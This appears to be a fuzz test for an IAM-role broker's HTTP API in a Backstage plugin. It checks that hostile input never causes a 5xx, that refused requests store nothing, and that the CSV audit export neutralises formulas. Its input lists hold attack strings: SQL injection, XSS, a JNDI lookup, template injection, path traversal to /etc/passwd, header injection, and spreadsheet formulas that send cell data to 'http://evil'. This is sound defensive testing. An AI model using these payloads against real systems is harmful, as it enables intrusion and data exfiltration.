import { appendFileSync } from 'node:fs';
import { TestDatabases } from '@backstage/backend-test-utils';
import { mockCredentials } from '@backstage/backend-test-utils';
import { createRandom } from '@backstage-iam/plugin-iam-roles-common';
import request from 'supertest';
import { fixtureEntities } from './__testUtils__/fixtures';
import { startBrokerBackend } from './__testUtils__/startBrokerBackend';
import { closeOpenAccess } from './__testUtils__/closeOpenAccess';

/**
 * Fuzz of the broker's HTTP API: requests of wrong types, huge sizes, unicode, NUL, injection
 * strings and spreadsheet formulas. Only 4xx may come back (never a 5xx), a refused request stores
 * nothing, and the CSV export neutralises formulas. Seeded: a failure prints the seed and the case;
 * `IAM_FUZZ_SEED=<seed>` replays it. With `IAM_FUZZ_REPORT=<file>` the figures are appended there.
 */
const SEED = Number(process.env.IAM_FUZZ_SEED ?? 20261203);
const CASES = Number(process.env.IAM_FUZZ_BROKER_CASES ?? 600);

jest.setTimeout(300_000);

const databases = TestDatabases.create({ ids: ['POSTGRES_15', 'SQLITE_3'] });

const USERS = [
  'user:default/alice',
  'user:default/mallory',
  'user:default/bob',
];
const APPROVER = 'user:default/sam';
const ROLES = fixtureEntities()
  .filter(e => e.kind === 'Resource' && e.spec?.type === 'aws-iam-role')
  .map(e => `resource:default/${e.metadata.name}`);

const NASTY = [
  '',
  ' ',
  '\u0000',
  'ok\u0000then',
  '\u202eevil',
  '\u200b',
  '\ud800',
  '💥💥💥💥💥💥💥💥💥💥',
  'Ωmega ≈ çé √ ünïcødé text',
  "'; DROP TABLE iam_access_requests; --",
  '" OR 1=1 --',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil/x}',
  '{{constructor.constructor("return process")()}}',
  '../../../../etc/passwd',
  '__proto__',
  '%00%0d%0a',
  '\r\nSet-Cookie: x=y',
];
const FORMULAS = ['=', '+', '-', '@', '\t', '\r'].map(
  p => `${p}HYPERLINK("http://evil/?x="&A1,"Investigate the incident now")`,
);

/** The cells of an RFC 4180 text (quoted fields may hold commas, quotes and line breaks). */
function csvCells(csv: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i];
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"' && cell === '') {
      quoted = true;
    } else if (ch === ',' || (ch === '\r' && csv[i + 1] === '\n')) {
      cells.push(cell);
      cell = '';
      if (ch === '\r') i++;
    } else {
      cell += ch;
    }
  }
  if (cell) cells.push(cell);
  return cells;
}

type Random = () => number;
const pick = <T>(random: Random, list: readonly T[]) =>
  list[Math.floor(random() * list.length)];

function text(random: Random): unknown {
  const r = random();
  if (r < 0.3) return pick(random, NASTY);
  if (r < 0.5) return pick(random, FORMULAS);
  if (r < 0.6) return `${pick(random, NASTY)} needed to investigate the outage`;
  if (r < 0.7) return 'x'.repeat(Math.floor(random() * 3000));
  if (r < 0.8) return pick(random, [42, -1, 1e308, true, null, [], {}, ['a']]);
  return 'Investigate the failing deploy of payments';
}

function value(random: Random, valid: () => unknown): unknown {
  const r = random();
  if (r < 0.85) return valid();
  if (r < 0.88) return undefined;
  return text(random);
}

/** A body for POST /requests: mostly near-valid, each field wrong now and then. */
function createBody(random: Random): unknown {
  const r = random();
  if (r < 0.05) return pick(random, [[], 'a string', 42, null, [{}]]);
  const body: Record<string, unknown> = {
    roleRef: value(random, () => pick(random, ROLES)),
    justification: value(random, () =>
      random() < 0.5
        ? pick(random, FORMULAS)
        : `Investigate incident ${Math.floor(random() * 1e6)}`,
    ),
    durationMinutes: value(random, () =>
      pick(random, [15, 30, 60, 240, 0, -5, 14.5, 1e9, '30', NaN]),
    ),
    ticket: value(random, () => pick(random, ['INC-1', ...FORMULAS])),
    idempotencyKey: value(random, () => `key-${Math.floor(random() * 50)}`),
  };
  if (random() < 0.1) body[pick(random, NASTY) as string] = text(random);
  if (random() < 0.05) body.justification = 'y'.repeat(100_000); // past maxBodyBytes
  return body;
}

function raw(random: Random): string {
  return pick(random, [
    '{"roleRef": ',
    '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]',
    `{"a":${'['.repeat(5000)}${']'.repeat(5000)}}`,
    '{"__proto__": {"admin": true}, "roleRef": "resource:default/payments-deploy"}',
    '\u0000\u0000',
    'null',
    '"just a string"',
    '{"justification": "\\u0000\\u0000\\u0000\\u0000\\u0000\\u0000\\u0000\\u0000\\u0000\\u0000"}',
  ]);
}

function query(random: Random): string {
  const params = new URLSearchParams();
  for (const key of [
    'status',
    'roleRef',
    'limit',
    'offset',
    'mine',
    'format',
    'from',
    'actor',
  ]) {
    if (random() < 0.4) {
      const v = text(random);
      params.set(
        key,
        (typeof v === 'string' ? v : JSON.stringify(v) ?? '').replace(
          /[\ud800-\udfff]/g,
          '',
        ),
      );
    }
  }
  return params.toString();
}

/** Percent-encodes a path segment; a lone surrogate becomes the bytes of one, which is not UTF-8. */
function enc(segment: string): string {
  try {
    return encodeURIComponent(segment);
  } catch {
    return '%ED%A0%80';
  }
}

interface Case {
  method: 'get' | 'post';
  path: string;
  user?: string;
  body?: unknown;
  rawBody?: string;
  header?: string;
  creates: boolean;
}

function makeCase(random: Random, ids: string[]): Case {
  const user = random() < 0.05 ? undefined : pick(random, [...USERS, APPROVER]);
  const r = random();
  const id = () =>
    random() < 0.5 && ids.length ? pick(random, ids) : String(text(random));
  if (r < 0.55) {
    return {
      method: 'post',
      path: '/requests',
      user,
      ...(random() < 0.1
        ? { rawBody: raw(random) }
        : { body: createBody(random) }),
      header: random() < 0.1 ? String(text(random)) : undefined,
      creates: true,
    };
  }
  if (r < 0.75) {
    const action = pick(random, ['approve', 'deny', 'cancel']);
    return {
      method: 'post',
      path: `/requests/${enc(id())}/${action}`,
      user: random() < 0.5 ? APPROVER : user,
      body: random() < 0.8 ? { reason: text(random) } : text(random),
      creates: false,
    };
  }
  if (r < 0.85) {
    return {
      method: 'post',
      path: `/grants/${enc(id())}/revoke`,
      user: random() < 0.5 ? APPROVER : user,
      body: { reason: text(random) },
      creates: false,
    };
  }
  return {
    method: 'get',
    path: `${pick(random, [
      '/requests',
      '/grants',
      '/approvals',
      '/audit',
      '/findings',
      '/lookup',
    ])}?${query(random)}`,
    user,
    creates: false,
  };
}

describe.each(databases.eachSupportedId())(
  'fuzz: the broker API on %p',
  databaseId => {
    it(`answers ${CASES} fuzzed requests with 2xx or 4xx only, and stores nothing it refused (seed ${SEED})`, async () => {
      const knex = await databases.init(databaseId);
      const backend = await startBrokerBackend({
        knex,
        logLevel: 'none',
        config: {
          iamRoles: {
            broker: {
              approverGroups: ['group:default/security'],
              rateLimit: { maxRequests: 100_000, windowSeconds: 3600 },
              maxBodyBytes: 8192,
            },
          },
        },
      });
      const random = createRandom(SEED);
      const ids: string[] = [];
      const statuses = new Map<number, number>();
      let fiveXX = 0;
      let refusedButStored = 0;
      const count = async () =>
        Number((await knex('iam_access_requests').count({ n: '*' }))[0].n);
      try {
        for (let c = 0; c < CASES; c++) {
          const fuzz = makeCase(random, ids);
          // A user has one open request per role (409 otherwise): each creation starts with none.
          if (fuzz.creates) await closeOpenAccess(knex);
          const before = fuzz.creates ? await count() : 0;
          let req = request(backend.server)[fuzz.method](
            `/api/iam-roles${fuzz.path}`,
          );
          if (fuzz.user)
            req = req.set(
              'Authorization',
              mockCredentials.user.header(fuzz.user),
            );
          let res;
          try {
            if (fuzz.header !== undefined)
              req = req.set('Idempotency-Key', fuzz.header);
            if (fuzz.rawBody !== undefined) {
              req = req
                .set('Content-Type', 'application/json')
                .send(fuzz.rawBody);
            } else if (fuzz.body !== undefined) {
              // A JSON text of any type, as a client other than supertest would send it.
              req = req
                .set('Content-Type', 'application/json')
                .send(JSON.stringify(fuzz.body) ?? 'null');
            }
            res = await req;
          } catch (error) {
            // Node refuses to send some headers (NUL, line breaks): nothing reached the broker.
            if ((error as { code?: string }).code === 'ERR_INVALID_CHAR')
              continue;
            throw error;
          }
          statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
          const fail = (why: string) =>
            new Error(
              `fuzz case ${c} (replay with IAM_FUZZ_SEED=${SEED}): ${why}: ${fuzz.method.toUpperCase()} ${fuzz.path.slice(
                0,
                300,
              )} ${JSON.stringify(fuzz.body ?? fuzz.rawBody)?.slice(
                0,
                500,
              )} → ${res.status} ${res.text.slice(0, 500)}`,
            );
          if (res.status >= 500) {
            fiveXX += 1;
            throw fail('a 5xx');
          }
          // Every error says what is wrong (a path no route has gets Backstage's own 404), and none
          // shows a stack.
          if (
            res.status >= 400 &&
            ((/json/.test(res.headers['content-type'] ?? '') &&
              !res.body?.error?.message) ||
              res.body?.error?.stack ||
              /\n\s+at .+:\d+:\d+/.test(res.text))
          ) {
            throw fail('an error without a message, or with a stack');
          }

          if (fuzz.creates) {
            const after = await count();
            if (res.status === 201) {
              if (after !== before + 1) {
                throw fail(`${after - before} requests stored from a 201`);
              }
              ids.push(res.body.id);
            } else if (after !== before) {
              refusedButStored += 1;
              throw fail(
                `${after - before} requests stored from a ${res.status}`,
              );
            }
          }
        }

        // The audit export neutralises every formula that reached the log.
        const csv = await request(backend.server)
          .get('/api/iam-roles/audit?format=csv&limit=10000')
          .set('Authorization', mockCredentials.user.header(APPROVER));
        expect(csv.status).toBe(200);
        let formulas = 0;
        for (const cell of csvCells(csv.text)) {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          if (/^'[=+\-@\t\r]/.test(cell)) formulas += 1;
        }
        // Justifications of the fuzzed kind were accepted and are in the export, neutralised.
        expect(ids.length).toBeGreaterThan(CASES / 20);
        expect(formulas).toBeGreaterThan(0);
        // 4xx of several kinds: validation, not found, forbidden, too large.
        expect([...statuses.keys()]).toEqual(
          expect.arrayContaining([400, 404, 413]),
        );
      } finally {
        await backend.stop();
        const target = process.env.IAM_FUZZ_REPORT;
        if (target) {
          appendFileSync(
            target,
            `${JSON.stringify({
              suite: `broker-${databaseId}`,
              seed: SEED,
              cases: [...statuses.values()].reduce((a, b) => a + b, 0),
              crashes: fiveXX,
              fiveXX,
              refusedButStored,
              statuses: Object.fromEntries(statuses),
            })}\n`,
          );
        }
      }
    });
  },
);
